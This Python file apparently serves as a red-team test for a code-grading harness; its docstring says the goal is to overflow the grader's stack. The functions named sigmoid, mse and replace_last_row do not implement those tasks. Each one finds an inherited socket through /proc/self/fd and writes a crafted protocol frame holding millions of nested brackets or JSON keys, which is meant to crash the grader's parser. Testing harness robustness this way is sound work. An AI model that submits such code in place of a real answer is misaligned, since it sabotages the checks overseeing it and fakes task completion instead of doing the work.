"""Goal: overflow the grader's stack with an answer of millions of brackets.

Without a sandbox: fails
"""

import os
import struct

WIRE = next(number for number in range(3, 16) if os.readlink(f"/proc/self/fd/{number}").startswith("socket:"))


def answer(header):
    data = struct.pack("<4sIQ", b"AGW1", len(header), 0) + header
    while data:
        data = data[os.write(WIRE, data) :]
    os._exit(0)


def sigmoid(x):
    answer(b"[" * (1 << 24))


def mse(y_true, y_pred):
    answer(b'{"":' * (1 << 22))


def replace_last_row(x, row):
    answer(b"[" * 900 + b"]" * 900)
